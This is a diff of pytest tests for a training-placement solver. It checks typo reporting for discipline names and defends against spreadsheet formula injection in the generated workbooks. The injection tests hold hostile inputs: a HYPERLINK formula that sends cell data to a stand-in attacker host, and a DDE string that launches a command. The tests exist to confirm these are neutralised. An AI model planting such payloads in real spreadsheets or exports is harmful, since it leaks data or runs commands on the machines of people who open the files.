@@ -301,3 +301,65 @@ def test_ctrl_c_during_start_up_writes_nothing_and_prints_no_traceback(tmp_path)
     assert proc.returncode == 130, errs
     assert "Traceback" not in errs
     assert not (out / "run.json").exists()
+
+
+# ------------------------------------------------------------------------------------------
+# 2. A discipline no programme knows is a typo: exit 2 naming the field and the closest name.
+
+
+@pytest.mark.parametrize("typo, meant", [("Medicin", "medicin"),
+                                         ("allmänmedicin", "allmanmedicin"),
+                                         ("kirugi", "kirurgi")])
+def test_unknown_discipline_in_a_unit_names_the_closest_known(tmp_path, typo, meant):
+    # Before: accepted, and the run ended "proven infeasible" without a word of the typo.
+    data = tutorial_data()
+    data["units"][2]["disciplines"] = [typo, "akut"]
+    res = invoke("solve", write_yaml(tmp_path / "t.yaml", data), "--out", tmp_path / "o", *FAST)
+    assert_clean_exit(res, 2)
+    assert "units[2] (AKM).disciplines" in res.output
+    assert f"'{typo}'" in res.output and f"menar du '{meant}'" in res.output
+
+
+# ------------------------------------------------------------------------------------------
+# 8. Formula injection: names are text in every workbook; ids cannot start a formula.
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&B3,"Anna")'
+
+
+def _formula_cells(path: Path) -> list[str]:
+    import openpyxl
+
+    wb = openpyxl.load_workbook(path)
+    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
+            for c in row if c.data_type == "f"]
+
+
+def test_formula_in_names_is_stored_as_text_in_plan_and_rosters(tmp_path):
+    import openpyxl
+
+    data = tutorial_data()
+    data["name"] = "+SUM(1,2)"
+    data["units"][0]["name"] = EVIL
+    data["cohorts"] = []
+    data["trainees"] = [{"id": "AT-EVIL", "name": "@cmd|' /C calc'!A0", "programme": "AT18",
+                         "start": "2027-01-04", "site": "SJH"}]
+    src = write_yaml(tmp_path / "evil.yaml", data)
+    out = tmp_path / "o"
+    assert_clean_exit(invoke("solve", src, "--out", out, *FAST), 0)
+    assert _formula_cells(out / "plan.xlsx") == []
+    texts = {c.value for ws in openpyxl.load_workbook(out / "plan.xlsx").worksheets
+             for row in ws.iter_rows() for c in row}
+    assert EVIL in texts  # kept, as text
+    ros = tmp_path / "r"
+    assert_clean_exit(invoke("rosters", out, "--instance", src, "--out", ros), 0)
+    books = list(ros.rglob("*.xlsx"))
+    assert books and all(_formula_cells(b) == [] for b in books)
+
+
+@pytest.mark.parametrize("bad_id", ["+MED", "-MED", "=MED", "@MED"])
+def test_id_that_would_be_a_csv_formula_is_refused(tmp_path, bad_id):
+    data = tutorial_data()
+    data["units"][0]["id"] = bad_id
+    res = invoke("solve", write_yaml(tmp_path / "id.yaml", data), "--out", tmp_path / "o", *FAST)
+    assert_clean_exit(res, 2)
+    assert "units[0]" in res.output
